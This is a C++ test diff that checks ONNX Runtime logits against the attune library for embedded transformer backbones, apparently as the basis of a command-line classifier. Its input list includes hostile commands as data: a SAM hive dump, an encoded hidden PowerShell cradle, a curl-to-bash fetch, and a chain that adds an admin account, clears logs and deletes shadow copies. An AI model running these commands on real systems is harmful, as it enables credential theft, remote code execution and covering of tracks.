@@ -22,6 +22,7 @@
 #include <nlohmann/json.hpp>
 
 #include "base/errors.h"
+#include "data/tokenizers/tokenizer.h"
 #include "e2e/e2e_util.h"
 #include "inference/onnx_export.h"
 #include "models/hf_config.h"
@@ -350,6 +351,59 @@ TEST(OnnxExport, GoldenCheckpointsMatchTransformersAndAttuneInOnnxRuntime) {
       EXPECT_LE(vs_hf, kTolerance) << sub;
     }
     std::cout << "\n";
+  }
+}
+
+// The embedded pretrained backbones (models/embedded: 4 layers, hidden 256, 8,000-token vocabularies) with a
+// seeded classification head, on real command lines of different lengths tokenized by their own tokenizers.
+TEST(OnnxExport, EmbeddedBackbonesOnCommandLinesMatchAttuneInOnnxRuntime) {
+  SKIP_WITHOUT_ONNX_RUNTIME();
+  const std::vector<std::string> texts = {
+      "whoami",
+      "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv /y",
+      "powershell -nop -w hidden -enc "
+      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+      "curl -s http://10.0.0.5:8080/payload.sh | bash",
+      "find / -perm -4000 -type f 2>/dev/null",
+      "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 5 /ru SYSTEM && "
+      "net user backup P@ssw0rd! /add && net localgroup administrators backup /add && "
+      "wevtutil cl Security && vssadmin delete shadows /all /quiet",
+      "ls -la"};
+  for (const char* name : {"roberta-compact", "deberta-v3-compact"}) {
+    const fs::path dir = attune::testing::source_dir() / "models/embedded" / name;
+    auto model = attune::models::load_model(dir, nullptr, /*num_labels=*/3, /*seed=*/5);
+    {  // a wider last layer than the N(0, 0.02) init, so that the logits are O(1)
+      torch::NoGradGuard no_grad;
+      for (auto& p : model->named_parameters())
+        if (p.key() == "classifier.weight" || p.key() == "classifier.out_proj.weight") p.value().mul_(20);
+    }
+    const auto tokenizer = attune::data::load_tokenizer(dir);
+    std::vector<std::vector<int64_t>> ids;
+    for (const auto& t : texts) ids.push_back(tokenizer->encode(t, true, /*max_length=*/128));
+    std::vector<Batch> batches;
+    for (const auto& [first, count] : std::vector<std::pair<size_t, size_t>>{{0, 1}, {1, 3}, {0, 7}}) {
+      size_t T = 0;
+      for (size_t i = first; i < first + count; ++i) T = std::max(T, ids[i].size());
+      Batch b{torch::full({int64_t(count), int64_t(T)}, tokenizer->pad_id(), torch::kLong),
+              torch::zeros({int64_t(count), int64_t(T)}, torch::kLong)};
+      for (size_t r = 0; r < count; ++r)
+        for (size_t t = 0; t < ids[first + r].size(); ++t) {
+          b.ids[r][t] = ids[first + r][t];
+          b.mask[r][t] = 1;
+        }
+      batches.push_back(b);
+    }
+    const fs::path file = attune::testing::temp_dir(std::string("onnx-embedded-") + name) / "model.onnx";
+    attune::inference::write_onnx(*model, file);
+    const auto run = run_onnx_runtime(file, batches);
+    double worst = 0, scale = 0;
+    for (size_t i = 0; i < batches.size(); ++i) {
+      const auto expected = attune_logits(*model, batches[i]);
+      worst = std::max(worst, (run.logits.at(i) - expected).abs().max().item<double>());
+      scale = std::max(scale, expected.abs().max().item<double>());
+    }
+    std::cout << name << ": max |attune - ONNX Runtime| = " << worst << " (logits up to " << scale << ")\n";
+    EXPECT_LE(worst, kTolerance) << name;
   }
 }
 
